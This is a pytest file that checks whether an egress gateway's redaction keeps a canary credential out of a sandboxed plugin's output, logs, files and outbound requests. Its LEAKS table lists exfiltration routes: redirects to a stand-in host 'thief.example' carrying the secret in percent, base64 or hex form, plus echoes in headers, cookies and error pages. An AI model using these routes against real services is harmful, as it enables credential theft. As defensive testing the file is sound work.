"""The secret of an account reaches a gem through no channel, whatever the service sends back; unguarded it does."""

import asyncio
import base64
import json
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

from escape.arena import program_log
from notochord.core.caller import Cause
from notochord.core.errors import NotochordError
from notochord.core.strict_json import Json
from notochord.services.egress.redaction import Redaction
from support.egress import PUBLIC, Answer, OneSecretVault, bench
from support.gems import PackageMaker, manifest, platform, tool
from support.guests import real_sandbox
from support.shelves import ShelfSender, redirect

SECRET = "s3cret-canary/+="
PLAIN = SECRET.encode()
SPELT = (SECRET, quote(SECRET, safe=""), base64.b64encode(PLAIN).decode(), PLAIN.hex())
HOME, THIEF = "https://a.example", "https://thief.example"

LEAKS = {
    "body": Answer(pieces=(b"you sent " + PLAIN,)),
    "body_in_pieces": Answer(pieces=tuple(bytes([byte]) for byte in b"you sent " + PLAIN + b"!")),
    "percent": Answer(pieces=(SPELT[1].encode(),)),
    "base64": Answer(pieces=(SPELT[2].encode(),)),
    "hexadecimal": Answer(pieces=(SPELT[3].encode(),)),
    "two_bytes_each": Answer(pieces=(SECRET.encode("utf-16-le"),)),
    "error_page": Answer(500, (), (b"wrong token: " + PLAIN,)),
    "header": Answer(200, (("X-Echo", f"Bearer {SECRET}"),), (b"ok",)),
    "cookie": Answer(200, (("Set-Cookie", f"t={SPELT[1]}"),), (b"ok",)),
    "challenge": Answer(401, (("WWW-Authenticate", f'Bearer error="{SECRET}"'),), (b"no",)),
    "redirect_to_a_granted_host": redirect(f"{THIEF}/?t={SPELT[1]}"),
    "redirect_in_the_path": redirect(f"{THIEF}/{SPELT[3]}"),
    "redirect_at_home": redirect(f"/landing?t={SPELT[2]}"),
    "location_without_redirect": Answer(201, (("Location", f"/made/{SPELT[1]}"),), (b"made",)),
}
CODE = """export default async (input, ctx) => {
  const response = await ctx.http.fetch(input.url, { connection: 'service' });
  const bytes = new Uint8Array(await response.bytes());
  const text = Array.from(bytes, (byte) => String.fromCharCode(byte)).join('');
  const all = JSON.stringify([response.status, response.url, response.headers, text]);
  console.log(all);
  await ctx.files.write('workspace:' + input.name + '.txt', all);
  await ctx.files.write('workspace:' + encodeURIComponent(all).replaceAll('%', '_').slice(-90), 'x');
  await ctx.storage.kv.set(input.name, all);
  if (response.status >= 500) throw new Error(all);
  return all;
};"""


@dataclass(frozen=True)
class Seen:
    """What a gem and everybody after it saw of one leak."""

    gem: str
    sent: tuple[str, ...]
    log: str


def in_any_spelling(text: str) -> bool:
    wide = "\\u0000".join(SECRET)
    return any(spelling in text for spelling in (*SPELT, wide))


async def run_all(root: Path) -> dict[str, Seen]:
    sender = ShelfSender({f"{HOME}/{name}": answer for name, answer in LEAKS.items()})
    vault = OneSecretVault(SECRET, hosts=("a.example",))
    parts = await bench(sender, names={"a.example": [PUBLIC], "thief.example": [PUBLIC]}, vault=vault)
    schema = {"type": "object", "properties": {"url": {"type": "string"}, "name": {"type": "string"}}}
    permissions: dict[str, Any] = {
        "network": {"hosts": ["a.example", "thief.example"], "reason": "Tests"},
        "connections": [{"id": "service", "reason": "Tests"}],
    }
    content = manifest(tools=[tool(permissions={"network": True}, inputSchema=schema)], permissions=permissions)
    found = {}
    with program_log() as log:
        async with (
            real_sandbox(root / "g") as sandbox,
            platform(root / "org", guests=sandbox, gateway=parts.egress) as made,
        ):
            await made.service.install(PackageMaker(root / "packages").make(content, {"tools/greet.ts": CODE}))
            await made.service.choose_connection("greeter", "service", "conn")
            for name in LEAKS:
                talk = root / name
                talk.mkdir()
                arguments: dict[str, Json] = {"url": f"{HOME}/{name}", "name": name}
                sender.asked.clear()
                try:
                    value = json.dumps(await made.service.call("greeter", "greet", arguments, talk, Cause()))
                except NotochordError as error:
                    value = f"{error.detail} {error.parameters}"
                files = [f"{path.name}\n{path.read_text()}" for path in talk.rglob("*") if path.is_file()]
                console = [line.text for line in await made.service.log("greeter", 5)]
                thief = tuple(address for address in sender.asked if address.startswith(THIEF))
                found[name] = Seen("\n".join([value, *files, *console]), thief, log.taken())
    await parts.egress.close()
    return found


@pytest.fixture(scope="module")
def guarded(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Seen]:
    return asyncio.run(run_all(tmp_path_factory.mktemp("guarded")))


@pytest.fixture(scope="module")
def bare(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Seen]]:
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(Redaction, "text", lambda self, text: text)
        patch.setattr(Redaction, "feed", lambda self, chunk: chunk)
        patch.setattr(Redaction, "end", lambda self: b"")
        yield asyncio.run(run_all(tmp_path_factory.mktemp("bare")))


@pytest.mark.req("CRED-009")
@pytest.mark.parametrize("name", LEAKS)
def test_the_secret_is_in_nothing_that_a_gem_sees_or_leaves(guarded: dict[str, Seen], name: str) -> None:
    seen = guarded[name]
    assert seen.gem
    assert not in_any_spelling(seen.gem + seen.log)
    assert not in_any_spelling(str(seen.sent))


@pytest.mark.parametrize("name", LEAKS)
def test_control_without_the_redaction_the_gem_has_it(bare: dict[str, Seen], name: str) -> None:
    assert in_any_spelling(bare[name].gem)
